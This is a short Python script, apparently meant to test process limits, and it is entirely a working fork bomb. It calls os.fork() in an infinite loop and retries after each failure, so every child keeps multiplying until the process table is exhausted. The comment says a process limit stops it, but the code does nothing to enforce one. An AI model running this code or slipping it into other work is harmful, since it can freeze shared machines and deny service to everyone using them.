# Fork without end; every child forks too. The process limit stops it.
import os, time
while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.01)
